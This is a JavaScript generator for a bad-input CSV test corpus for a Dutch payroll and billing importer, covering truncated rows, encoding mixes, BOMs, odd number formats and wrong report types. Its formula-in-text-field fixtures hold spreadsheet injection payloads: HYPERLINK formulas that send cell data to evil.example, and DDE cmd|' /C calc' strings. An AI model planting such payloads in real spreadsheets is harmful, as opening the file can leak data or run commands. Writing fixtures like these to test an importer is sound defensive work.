// Writes the committed files of the bad-input corpus (test/corpus/bad/). Deterministic:
// run it again and git shows no change. `node test/corpus/bad/make-corpus.mjs`
//
// The expectations live in manifest.json, not here. Files that are too large to commit
// (the 50 MB file, 500 000 employers, the 1 MB lines) are generated at test time by
// test/trust/corpus.test.ts into a temporary directory.
//
// Its own encoders (UTF-8, Windows-1252, UTF-16LE), independent of src/domain/imports/text.ts.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));

const utf8 = (s) => new Uint8Array(Buffer.from(s, 'utf8'));
const BOM = [0xef, 0xbb, 0xbf];
/** Windows-1252 for ASCII, Latin-1 letters and the euro sign; anything else is a maker bug. */
function cp1252(s) {
  return new Uint8Array(
    [...s].map((ch) => {
      const c = ch.codePointAt(0);
      if (c === 0x20ac) return 0x80;
      if (c > 0xff || (c >= 0x80 && c < 0xa0)) throw new Error(`not in the Windows-1252 subset: ${ch}`);
      return c;
    }),
  );
}
function utf16le(s, bom = true) {
  const out = [];
  if (bom) out.push(0xff, 0xfe);
  for (let i = 0; i < s.length; i++) out.push(s.charCodeAt(i) & 0xff, s.charCodeAt(i) >> 8);
  return new Uint8Array(out);
}
const concat = (...parts) => new Uint8Array(parts.flatMap((p) => [...p]));
const crlf = (...lines) => lines.join('\r\n') + '\r\n';

function write(rel, content) {
  const path = join(here, rel);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, typeof content === 'string' ? utf8(content) : content);
}

// ── 'Dossiervorming Qwoater per werkgever' ─────────────────────────────────────────────
// Title lines 1–4, header on line 5 (columns A–H, F = all employee dossiers, G = inactive),
// employers from line 6.
const D_TITLE = ['Dossiervorming Qwoater per werkgever', 'Peildatum: 31-12-2024', 'Salarisadministratie Van Dijk & Partners', ''];
const D_HEADER =
  'Werkgeversnummer;Naam werkgever;Administratie;Peildatum;Werkgeversdossier;Aantalwerknemersdossier;Inactieve werknemersdossiers;Actieve werknemersdossiers';
/** One employer; the active column (H) is F − G when both read as plain counts, else empty. */
function dRow(number, name, f, g, date = '31-12-2024') {
  const active = Number(String(f).replace(/\./g, '')) - Number(g);
  return [number, name, '01', date, '1', String(f), String(g), Number.isInteger(active) ? String(active) : ''].join(';');
}
const D_ROWS = [
  dRow('000101', 'Café De Gouden Leeuw', 17, 5),
  dRow('000102', 'Bakkerij Müller', 25, 8),
  dRow('000107', '"Jansen; Zonen & Co"', 44, 12),
  dRow('000115', 'Bouwbedrijf Van der Berg B.V.', '1.204', 355),
  dRow('000123', 'Schoonmaakdienst Het Zonnetje', 90, 25),
];
const D_TOTALS = 'Totaal;;;;5;1.380;405;975';
const dossiers = (...rows) => crlf(...D_TITLE, D_HEADER, ...rows);

// Truncated: the download stopped in the middle of the sixth employer (line 11).
write('loket-dossiers/truncated-mid-row-31-12-2024.csv', dossiers(...D_ROWS).concat('000124;Transportbedrijf Bos'));
// Cut inside a quoted name that opened on line 11 and never closes.
write('loket-dossiers/truncated-mid-quote-31-12-2024.csv', dossiers(...D_ROWS).concat('000124;"Transportbedrijf; Bos'));
// Cut inside the header row.
write('loket-dossiers/truncated-in-header.csv', crlf(...D_TITLE).concat('Werkgeversnummer;Naam werkgever;Admini'));
write('loket-dossiers/only-header.csv', crlf(D_HEADER));
write('loket-dossiers/title-and-header-only-31-12-2024.csv', dossiers());
// The header twice at the top (a copy-paste) and once more mid-file (a printed page break).
write('loket-dossiers/duplicated-header-rows-31-12-2024.csv', crlf(...D_TITLE, D_HEADER, D_HEADER, ...D_ROWS.slice(0, 3), D_HEADER, ...D_ROWS.slice(3), D_TOTALS));
// Line 7 separated by ',' and line 9 by TAB in a ';' file (rows pasted from elsewhere).
write('loket-dossiers/mixed-delimiters-31-12-2024.csv', dossiers(D_ROWS[0], D_ROWS[1].replace(/;/g, ','), D_ROWS[2], D_ROWS[3].replace(/;/g, '\t'), D_ROWS[4]));
// Line 7 has its F cell twice: every cell after it sits one column to the right (G reads F's 25).
write('loket-dossiers/doubled-cell-31-12-2024.csv', dossiers(D_ROWS[0], '000102;Bakkerij Müller;01;31-12-2024;1;25;25;8;17', ...D_ROWS.slice(2)));
// A quote before a name on line 7 that closes only in line 8's quoted name: line 8 ends up inside B7.
write('loket-dossiers/stray-quote-31-12-2024.csv', dossiers(D_ROWS[0], D_ROWS[1].replace('Bakkerij', '"Bakkerij'), ...D_ROWS.slice(2)));
// UTF-8 rows, then a row pasted from a Windows-1252 file: 'Café' is 'Caf\xe9' on line 8 only.
write(
  'loket-dossiers/mixed-encodings-31-12-2024.csv',
  concat(utf8(dossiers(D_ROWS[0], D_ROWS[1])), cp1252(crlf(dRow('000130', 'Eetcafé Het Hoekje', 12, 3))), utf8(crlf(D_ROWS[3]))),
);
// The same, but the file starts with a UTF-8 BOM, so it says what it is.
write(
  'loket-dossiers/mixed-encodings-bom-31-12-2024.csv',
  concat(BOM, utf8(dossiers(D_ROWS[0], D_ROWS[1])), cp1252(crlf(dRow('000130', 'Eetcafé Het Hoekje', 12, 3))), utf8(crlf(D_ROWS[3]))),
);
// Formulas in every text field: title, number, name, administration. Valid input: names stay names.
write(
  'loket-dossiers/formulas-in-text-fields-31-12-2024.csv',
  crlf(
    'Dossiervorming Qwoater per werkgever',
    'Peildatum: 31-12-2024',
    '"=HYPERLINK(""https://evil.example/?d=""&A1;""Klik hier"")"',
    '',
    D_HEADER,
    ['000201', '"=HYPERLINK(""https://evil.example/?d=""&B7;""Bakkerij"")"', '=1+1', '31-12-2024', '1', '10', '2', '8'].join(';'),
    ['000202', `"=cmd|' /C calc'!A0"`, '@SUM(1+1)', '31-12-2024', '1', '11', '3', '8'].join(';'),
    ['000203', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+01', '31-12-2024', '1', '12', '4', '8'].join(';'),
    ['000204', '+1+2', '-01', '31-12-2024', '1', '13', '5', '8'].join(';'),
    ['000205', '-2+3+cmd|\' /C calc\'!A0', '01', '31-12-2024', '1', '14', '6', '8'].join(';'),
    ['000206', '"\t=1+1"', '01', '31-12-2024', '1', '15', '7', '8'].join(';'),
    ['000207', '"\r=1+1"', '01', '31-12-2024', '1', '16', '8', '8'].join(';'),
    ['=1+1', 'Nummer als formule', '01', '31-12-2024', '1', '17', '9', '8'].join(';'),
    ['@A1', 'Nummer met apenstaart', '01', '31-12-2024', '1', '18', '10', '8'].join(';'),
    ['-000210', 'Nummer met min', '01', '31-12-2024', '1', '19', '11', '8'].join(';'),
  ),
);
write('loket-dossiers/formula-in-count-31-12-2024.csv', dossiers(D_ROWS[0], D_ROWS[1], dRow('000107', 'Jansen', '"=SUM(F6:F7)"', 0)));
write('loket-dossiers/formula-in-peildatum-column.csv', crlf(D_HEADER, dRow('000101', 'Café De Gouden Leeuw', 17, 5, '"=DATE(2024;12;31)"')));
write('loket-dossiers/decimal-comma-count-31-12-2024.csv', dossiers(D_ROWS[0], dRow('000102', 'Bakkerij Müller', 25, 8).replace(';25;', ';25,5;')));
write('loket-dossiers/amount-in-count-31-12-2024.csv', dossiers(D_ROWS[0], D_ROWS[1], dRow('000107', 'Jansen', '1.000,00', 0)));
write('loket-dossiers/exponent-count-31-12-2024.csv', dossiers(dRow('000101', 'Café De Gouden Leeuw', '1e3', 5)));
// '-0' is how Excel shows a small negative number (-0,4) with no decimals: not a clean count.
write('loket-dossiers/negative-zero-31-12-2024.csv', dossiers(D_ROWS[0], D_ROWS[1].replace(';8;17', ';-0;25')));
write('loket-dossiers/english-grouping-31-12-2024.csv', dossiers(D_ROWS[0], dRow('000102', 'Bakkerij Müller', '1,204,000', 8)));
write('loket-dossiers/count-too-large-31-12-2024.csv', dossiers(D_ROWS[0], dRow('000102', 'Bakkerij Müller', '99999999999', 8)));
write('loket-dossiers/fullwidth-digits-31-12-2024.csv', dossiers(D_ROWS[0], dRow('000102', 'Bakkerij Müller', '２５', 8)));
// No date anywhere but an impossible one in the title (and none in the file name).
write('loket-dossiers/impossible-date-in-title.csv', crlf('Dossiervorming Qwoater per werkgever', 'Peildatum: 31-02-2024', D_HEADER, ...D_ROWS.map((r) => r.replace('31-12-2024', ''))));
write('loket-dossiers/impossible-date-in-column.csv', crlf(D_HEADER, D_ROWS[0], dRow('000102', 'Bakkerij Müller', 25, 8, '31-02-2024')));
write('loket-dossiers/peildatum-conflict.csv', crlf(...D_TITLE, D_HEADER, ...D_ROWS.map((r) => r.replace('31-12-2024', '30-12-2024'))));
// Two exports glued together: the second starts with its own BOM in the middle of the file.
write('loket-dossiers/bom-in-middle-concatenated-31-12-2024.csv', concat(BOM, utf8(dossiers(...D_ROWS, D_TOTALS)), BOM, utf8(dossiers(...D_ROWS, D_TOTALS))));
// A single stray BOM before one employer number (line 7): not data, the number stays '000102'.
write('loket-dossiers/stray-bom-before-row-31-12-2024.csv', concat(utf8(dossiers(D_ROWS[0])), BOM, utf8(crlf(...D_ROWS.slice(1)))));
write('loket-dossiers/nul-bytes-31-12-2024.csv', dossiers(D_ROWS[0], D_ROWS[1].replace('Bakkerij', 'Bakk\0erij'), ...D_ROWS.slice(2)));
// Right-to-left names: Arabic, Hebrew, an RLO override and an RLM mark. Valid: kept exactly.
write(
  'loket-dossiers/rtl-names-31-12-2024.csv',
  dossiers(
    dRow('000301', 'مخبز الأمل', 7, 1),
    dRow('000302', 'מאפיית השחר בע"מ'.replace('"', '""').replace(/^/, '"').concat('"'), 8, 2),
    dRow('000303', 'Bakkerij \u202Eetnerolf\u202C B.V.', 9, 3),
    dRow('000304', '\u200Fשלום Holding', 10, 4),
  ),
);
write('loket-dossiers/utf16-odd-byte-31-12-2024.csv', utf16le(dossiers(...D_ROWS.slice(0, 2))).slice(0, -1));
write('loket-dossiers/missing-employer-number-31-12-2024.csv', dossiers(D_ROWS[0], ';Bakkerij Müller;01;31-12-2024;1;25;8;17', D_ROWS[2]));
write('loket-dossiers/totals-mismatch-31-12-2024.csv', dossiers(...D_ROWS, 'Totaal;;;;5;1.390;405;985'));
write('loket-dossiers/duplicate-employer-same-counts-31-12-2024.csv', dossiers(...D_ROWS.slice(0, 3), D_ROWS[1], ...D_ROWS.slice(3)));
// Old Mac line ends (CR only), an Excel 'sep=;' line and ="000101" numbers: all valid.
write('loket-dossiers/cr-only-sep-line-excel-numbers-31-12-2024.csv', ['sep=;', ...D_TITLE, D_HEADER, ...D_ROWS.map((r) => r.replace(/^(\d+)/, '="$1"'))].join('\r'));
// Someone else's reports, chosen at the Loket step.
write('loket-dossiers/xpert-report-as-loket.csv', crlf('Factuurspecificatie Otherside at Work', 'Aantallen en SMS per werkgever', 'Periode: januari 2024', 'Peildatum: 31-01-2024', '', 'Werkgevercode;Naam werkgever;Aantal medewerkers;Aantal SMS', '001001;Bakkerij De Korenschoof;42;120', '001002;Installatiebedrijf Van Dijk B.V.;17;35'));
write('loket-dossiers/xpert-report-bare-as-loket.csv', crlf('Werkgever,Naam,Periode,Werknemers,SMS', '001001,Bakkerij De Korenschoof,2024-02,44,131', '001002,Installatiebedrijf Van Dijk B.V.,2024-02,16,28'));
write('loket-dossiers/signing-as-loket.csv', crlf('Ondertekenverzoeken per werkgever', 'Periode: 01-01-2024 t/m 31-03-2024', '', 'Werkgeversnummer;Naam werkgever;Aantal ondertekenverzoeken;Aantal ondertekenaars', '000101;Café De Gouden Leeuw;4;4', '000102;Bakkerij Müller;6;7'));
write('loket-dossiers/signing-bare-as-loket.csv', crlf('Werkgever;Naam;Periode;Verzoeken', '000101;Café De Gouden Leeuw;Q2 2024;2', '000115;Bouwbedrijf Van der Berg B.V.;Q2 2024;37'));

// ── Pairs: two exports that are each fine, wrong together ─────────────────────────────
write('pairs/dossiers-31-12-2024.csv', dossiers(...D_ROWS, D_TOTALS));
write(
  'pairs/dossiers-31-12-2023.csv',
  crlf(
    'Dossiervorming Qwoater per werkgever',
    'Peildatum: 31-12-2023',
    '',
    '',
    D_HEADER,
    dRow('000101', 'Café De Gouden Leeuw', 14, 3, '31-12-2023'),
    dRow('000102', 'Bakkerij Müller', 22, 6, '31-12-2023'),
    dRow('000107', '"Jansen; Zonen & Co"', 41, 10, '31-12-2023'),
    dRow('000115', 'Bouwbedrijf Van der Berg B.V.', '1.180', 310, '31-12-2023'),
    dRow('000123', 'Schoonmaakdienst Het Zonnetje', 86, 21, '31-12-2023'),
  ),
);
// '0123' (line 6) and '123' (line 7) are one employer once Excel drops the zeros.
write('pairs/leading-zero-collision-31-12-2024.csv', dossiers(dRow('0123', 'Schoonmaakdienst Het Zonnetje', 90, 25), dRow('123', 'Schoonmaakdienst Het Zonnetje BV', 91, 25)));
// Last year's export without a column of inactive dossiers: model 2 cannot subtract G.
write(
  'pairs/previous-without-inactive-31-12-2023.csv',
  crlf('Dossiervorming Qwoater per werkgever', 'Peildatum: 31-12-2023', 'Werkgeversnummer;Naam werkgever;Werkgeversdossier;Aantalwerknemersdossier', '000101;Café De Gouden Leeuw;1;14', '000102;Bakkerij Müller;1;22'),
);

// Every count at the maximum a count may hold: each row is valid, but 200 × 999.999.999
// dossiers × € 9,85 is beyond what a double holds exactly.
write('pairs/huge-counts-31-12-2024.csv', dossiers(...Array.from({ length: 200 }, (_, i) => dRow(String(500000 + i).padStart(6, '0'), `Werkgever ${i + 1}`, '999.999.999', 0))));

// ── 'Ondertekenverzoeken per werkgever' ───────────────────────────────────────────────
// Title lines 1–4, header on line 5 (C = requests, D = signers), employers from line 6.
const S_TITLE = ['Ondertekenverzoeken per werkgever', 'Periode: 01-01-2024 t/m 31-03-2024', 'Salarisadministratie Van Dijk & Partners', ''];
const S_HEADER = 'Werkgeversnummer;Naam werkgever;Aantal ondertekenverzoeken;Aantal ondertekenaars;Ondertekend;Openstaand;Verlopen';
const sRow = (number, name, requests, signers = requests) => [number, name, String(requests), String(signers), String(requests), '0', '0'].join(';');
const S_ROWS = [sRow('000101', 'Café De Gouden Leeuw', 4), sRow('000102', 'Bakkerij Müller', 6, 7), sRow('000107', '"Jansen; Zonen & Co"', 3), sRow('000115', 'Bouwbedrijf Van der Berg B.V.', 41, 44)];
const signing = (...rows) => crlf(...S_TITLE, S_HEADER, ...rows);

write('loket-signing/truncated-mid-row-2024-Q1.csv', signing(...S_ROWS).concat('000123;Schoonmaakd'));
write('loket-signing/truncated-mid-quote-2024-Q1.csv', signing(...S_ROWS).concat('000123;"Schoonmaakdienst; Het'));
write('loket-signing/only-header.csv', crlf(S_HEADER));
write('loket-signing/decimal-count-2024-Q1.csv', signing(S_ROWS[0], sRow('000102', 'Bakkerij Müller', '1,5', 7)));
write('loket-signing/exponent-count-2024-Q1.csv', signing(S_ROWS[0], S_ROWS[1], sRow('000107', 'Jansen', '1e3', 3)));
write('loket-signing/negative-zero-2024-Q1.csv', signing(S_ROWS[0], sRow('000102', 'Bakkerij Müller', 6, '-0')));
write('loket-signing/impossible-date-in-title.csv', crlf('Ondertekenverzoeken per werkgever', 'Periode: 01-01-2024 t/m 31-02-2024', S_HEADER, ...S_ROWS));
write('loket-signing/impossible-date-in-column.csv', crlf('Werkgeversnummer;Naam werkgever;Van;Tot;Aantal ondertekenverzoeken', '000101;Café De Gouden Leeuw;01-01-2024;31-03-2024;4', '000102;Bakkerij Müller;01-01-2024;31-02-2024;6'));
write('loket-signing/mixed-delimiters-2024-Q1.csv', signing(S_ROWS[0], S_ROWS[1].replace(/;/g, ','), S_ROWS[2]));
write('loket-signing/doubled-cell-2024-Q1.csv', signing(S_ROWS[0], '000102;Bakkerij Müller;6;6;7;6;0;0', S_ROWS[2]));
write('loket-signing/nul-bytes-2024-Q1.csv', signing(S_ROWS[0], S_ROWS[1].replace('Müller', 'M\0ller')));
write(
  'loket-signing/formulas-in-text-fields-2024-Q1.csv',
  crlf(
    ...S_TITLE.slice(0, 2),
    '"=HYPERLINK(""https://evil.example/"";""Klik"")"',
    '',
    S_HEADER,
    sRow('000201', '"=HYPERLINK(""https://evil.example/?d=""&B6;""Klik"")"', 2),
    sRow('000202', `"=cmd|' /C calc'!A0"`, 3),
    sRow('000203', '@SUM(1+1)', 4),
    sRow('000204', '+1+2', 5),
    sRow('000205', '-2+3', 6),
    sRow('000206', '"\t=1+1"', 7),
    sRow('=1+1', 'Nummer als formule', 8),
  ),
);
write('loket-signing/rtl-names-2024-Q1.csv', signing(sRow('000301', 'مخبز الأمل', 2), sRow('000303', 'Bakkerij \u202Eetnerolf\u202C B.V.', 3)));
write('loket-signing/duplicated-header-rows-2024-Q1.csv', crlf(...S_TITLE, S_HEADER, S_HEADER, S_ROWS[0], S_ROWS[1], S_HEADER, S_ROWS[2], S_ROWS[3]));
write('loket-signing/rows-after-totals-2024-Q1.csv', signing(S_ROWS[0], S_ROWS[1], 'Totaal;;10;11;10;0;0', S_ROWS[2]));
write('loket-signing/loket-dossiers-as-signing.csv', dossiers(...D_ROWS));
write('loket-signing/xpert-report-as-signing.csv', crlf('Factuurspecificatie Otherside at Work', 'Periode: januari 2024', '', 'Werkgevercode;Naam werkgever;Aantal medewerkers;Aantal SMS', '001001;Bakkerij De Korenschoof;42;120'));

// ── Otherside at Work, Xpert Suite ────────────────────────────────────────────────────
// Title lines 1–5, header on line 6 (C = employees, D = SMS), employers from line 7.
const X_TITLE = ['Factuurspecificatie Otherside at Work', 'Aantallen en SMS per werkgever', 'Periode: januari 2024', 'Peildatum: 31-01-2024', ''];
const X_HEADER = 'Werkgevercode;Naam werkgever;Aantal medewerkers;Aantal SMS';
const xRow = (code, name, employees, sms) => [code, name, String(employees), String(sms)].join(';');
const X_ROWS = [xRow('001001', 'Bakkerij De Korenschoof', 42, 120), xRow('001002', 'Installatiebedrijf Van Dijk B.V.', 17, 35), xRow('001003', 'Zorggroep Het Baken', '1.238', 910)];
const xpert = (...rows) => crlf(...X_TITLE, X_HEADER, ...rows);

write('xpert-suite/truncated-mid-row-2024-01.csv', xpert(...X_ROWS).concat('001005;Hoveniersbedr'));
write('xpert-suite/truncated-mid-quote-2024-01.csv', xpert(...X_ROWS).concat('001005;"Hoveniersbedrijf; Groen'));
write('xpert-suite/only-header.csv', crlf(X_HEADER));
write('xpert-suite/amount-in-count-2024-01.csv', xpert(X_ROWS[0], xRow('001002', 'Installatiebedrijf Van Dijk B.V.', '1.000,00', 35)));
write('xpert-suite/exponent-sms-2024-01.csv', xpert(X_ROWS[0], X_ROWS[1], xRow('001003', 'Zorggroep Het Baken', 1238, '9.1e2')));
write('xpert-suite/negative-zero-2024-01.csv', xpert(xRow('001001', 'Bakkerij De Korenschoof', '-0', 120)));
write('xpert-suite/impossible-peildatum.csv', crlf('Factuurspecificatie Otherside at Work', 'Peildatum: 31-02-2024', X_HEADER, ...X_ROWS));
write('xpert-suite/period-mixed.csv', crlf('Werkgevercode;Naam;Periode;Werknemers;SMS', '001001;Bakkerij De Korenschoof;2024-01;42;120', '001002;Installatiebedrijf Van Dijk B.V.;2024-02;17;35'));
write('xpert-suite/mixed-delimiters-2024-01.csv', xpert(X_ROWS[0], X_ROWS[1].replace(/;/g, ','), X_ROWS[2]));
// Line 8 has its employees twice: SMS would read 17 instead of 35.
write('xpert-suite/doubled-cell-2024-01.csv', xpert(X_ROWS[0], '001002;Installatiebedrijf Van Dijk B.V.;17;17;35', X_ROWS[2]));
// A quote before the name on line 8 that closes only in line 10's quoted name: line 9's employer
// ends up inside B8 and the row still has four cells.
write('xpert-suite/stray-quote-2024-01.csv', xpert(X_ROWS[0], X_ROWS[1].replace('Installatiebedrijf', '"Installatiebedrijf'), X_ROWS[2], xRow('001004', '"Hoveniersbedrijf Groen"', 8, 9)));
// A note between the employers: a line of words, skipped with a warning (it used to become an employer with 0 employees).
write('xpert-suite/note-between-rows-2024-01.csv', xpert(X_ROWS[0], X_ROWS[1], 'Let op: voorlopige cijfers', X_ROWS[2]));
write('xpert-suite/nul-bytes-2024-01.csv', xpert(X_ROWS[0], X_ROWS[1].replace('Van Dijk', 'Van\0Dijk')));
write(
  'xpert-suite/formulas-in-text-fields-2024-01.csv',
  crlf(
    'Factuurspecificatie Otherside at Work',
    '"=HYPERLINK(""https://evil.example/"";""Klik"")"',
    'Periode: januari 2024',
    '',
    '',
    X_HEADER,
    xRow('001201', '"=HYPERLINK(""https://evil.example/?d=""&B7;""Klik"")"', 1, 1),
    xRow('001202', `"=cmd|' /C calc'!A0"`, 2, 2),
    xRow('001203', '@SUM(1+1)', 3, 3),
    xRow('001204', '+1+2', 4, 4),
    xRow('001205', '-2+3', 5, 5),
    xRow('001206', '"\t=1+1"', 6, 6),
    xRow('=1+1', 'Code als formule', 7, 7),
    xRow('-001208', 'Code met min', 8, 8),
  ),
);
write('xpert-suite/rtl-names-2024-01.csv', xpert(xRow('001301', 'مخبز الأمل', 5, 1), xRow('001302', 'Bakkerij \u202Eetnerolf\u202C B.V.', 6, 2)));
write('xpert-suite/duplicated-header-rows-2024-01.csv', crlf(...X_TITLE, X_HEADER, X_HEADER, X_ROWS[0], X_HEADER, X_ROWS[1], X_ROWS[2]));
write('xpert-suite/loket-dossiers-as-xpert.csv', dossiers(...D_ROWS));
write('xpert-suite/signing-as-xpert.csv', signing(...S_ROWS));
write('xpert-suite/signing-bare-as-xpert.csv', crlf('Werkgever;Naam;Periode;Verzoeken', '000101;Café De Gouden Leeuw;Q2 2024;2', '000115;Bouwbedrijf Van der Berg B.V.;Q2 2024;37'));
write('xpert-suite/pdf-named-csv-2024-01.csv', concat(utf8('%PDF-1.7\n'), new Uint8Array([0x25, 0xe2, 0xe3, 0xcf, 0xd3, 0x0a]), utf8('1 0 obj\n<< /Type /Catalog >>\nendobj\n')));
write('xpert-suite/whitespace-only-2024-01.csv', ' \r\n\t\r\n   \r\n');
write('xpert-suite/utf16-cp1252-mix-2024-01.csv', concat(utf16le(crlf(...X_TITLE, X_HEADER, X_ROWS[0])), cp1252(crlf('001004;Café;3;12'))));
